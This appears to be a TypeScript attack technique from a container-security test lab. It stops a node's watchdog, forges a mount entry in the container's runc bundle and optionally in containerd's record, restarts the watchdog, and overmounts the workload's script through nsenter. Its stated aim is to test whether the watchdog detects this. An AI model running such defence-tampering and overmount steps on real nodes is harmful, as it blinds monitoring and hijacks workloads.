/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools, T1036.005
 * Match Legitimate Resource Name or Location): the protected workload runs,
 * gated. Root on the node stops the watchdog, stages its file in the
 * container's /dev/shm, and adds to the container's task bundle
 * (config.json) a mount that declares the overmount it is about to make: a
 * bind of that staged file over the script the workload runs. It starts the
 * watchdog again exactly as it was started, then overmounts the script
 * through nsenter, as overmount-nsenter does. runc does not read a bundle
 * again once the container runs, so the edit changes nothing but what a
 * reader of the bundle believes: a watchdog that derived a container's
 * expected mounts from its bundle would take the overmount for one the
 * spec declares.
 *
 * What must catch it: the restarted watchdog, which takes the expected
 * mounts (and whose the task is) from containerd's record of the container
 * (lab/gates/bundle-spec.ts), reports the edited bundle and sees the
 * overmount.
 */
import { LabError } from '../../errors.ts';
import type { Technique, TechniqueContext, TechniqueResult } from '../technique.ts';
import { updateRecordedSpec } from './containerd-record-update.ts';
import { gatedSpec } from '../../gates/bundle-spec.ts';
import { TASK_DIR } from './bundle-namespace-forge.ts';
import { requirePath, requirePayload, type AttackErrorCode } from './common.ts';
import { readNodeText, writeNodeText } from './defence-tamper.ts';
import { attackerRuns, judgeOvermount, mountinfoOf, targetOf } from './overmount.ts';
import { STAGING } from './overmount-nsenter.ts';
import { tryStart } from './start.ts';
import { startWatchdog, stopWatchdog } from './watchdog-restart-launder.ts';

interface BundleSpec {
  root?: { path?: string; readonly?: boolean };
  mounts?: { destination: string; type?: string; source?: string; options?: string[] }[];
}

export const bundleMountDeclare: Technique = {
  name: 'bundle-mount-declare',
  run: (ctx) => declareThenOvermount(ctx, { record: false }),
};

/**
 * The attack, with the declared mount written into the bundle and, with
 * `record`, into containerd's record of the container too (Containers.Update
 * on containerd's socket: record-mount-declare), so that the two agree.
 */
export async function declareThenOvermount(ctx: TechniqueContext, options: { record: boolean }): Promise<TechniqueResult> {
  const { node, workload, pods, attack } = ctx;
  const path = requirePath(attack);
  const payload = Buffer.from(requirePayload(attack), 'utf8');
  const start = await tryStart(node, workload, pods);
  if (!start.started) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `the workload ${workload.metadata.name} did not start (${start.stage}): ${start.reason}; the attack needs it running`);
  const target = await targetOf(ctx);
  const stopped = await stopWatchdog(node);
  const evidence: Record<string, unknown> = { watchdog: stopped ? { stoppedPid: stopped.pid, commandLine: stopped.argv } : 'none on this node' };
  await attackerRuns(node, ['sh', '-c', `cat > /proc/${target.pid}/root${STAGING}`], payload);
  // The staged file as the node names it: under the bind source of the container's /dev/shm.
  const bundleFile = `${TASK_DIR}/${target.containerId}/config.json`;
  const text = await readNodeText(node, bundleFile);
  if (text === undefined) throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `no bundle ${bundleFile} on the node`);
  const spec = JSON.parse(text) as BundleSpec;
  const shm = spec.mounts?.find((m) => m.destination === '/dev/shm')?.source;
  if (!shm) throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `the bundle of ${target.pod.namespace}/${target.pod.name} binds nothing on /dev/shm`);
  const declared = { destination: path, type: 'bind', source: `${shm}${STAGING.slice('/dev/shm'.length)}`, options: ['rbind', 'rw'] };
  let bundle: BundleSpec = { ...spec, mounts: [...(spec.mounts ?? []), declared] };
  if (options.record) {
    const socket = node.cri.address.replace(/^unix:\/\//, '');
    const record = await updateRecordedSpec(socket, target.containerId, (recorded) => {
      (recorded as BundleSpec).mounts = [...((recorded as BundleSpec).mounts ?? []), declared];
      return structuredClone(recorded) as BundleSpec & { root?: { readonly?: boolean } };
    });
    // The bundle then as the start gate would have written it from that record (a gated root is read-only), so that the two agree.
    bundle = spec.root?.readonly ? gatedSpec(record) : record;
    evidence.recordUpdated = { containerdSocket: socket, container: target.containerId };
  }
  await writeNodeText(node, bundleFile, JSON.stringify(bundle));
  Object.assign(evidence, { bundle: bundleFile, declaredMount: declared });
  if (stopped) evidence.restartedPid = (await startWatchdog(node, stopped.argv, stopped.pid)) ?? 'did not write its pid file within 15 s';
  const mountinfoBefore = await mountinfoOf(node, target.pid);
  const command = ['nsenter', '-t', String(target.pid), '-m', 'mount', '--bind', STAGING, path];
  const startedAt = Date.now();
  await attackerRuns(node, command);
  const doneAt = Date.now();
  const overmount = await judgeOvermount(ctx, { target, path, payload, command, mountinfoBefore, startedAt, doneAt });
  const where = options.record ? `${bundleFile} and containerd's record of the container` : bundleFile;
  const what = `a bind of ${declared.source} over ${path} declared in ${where}${stopped ? ' while the watchdog was stopped, and the watchdog started again' : ''}`;
  return { ...overmount, reason: `${what}; ${overmount.reason}`, evidence: { ...evidence, ...overmount.evidence } };
}
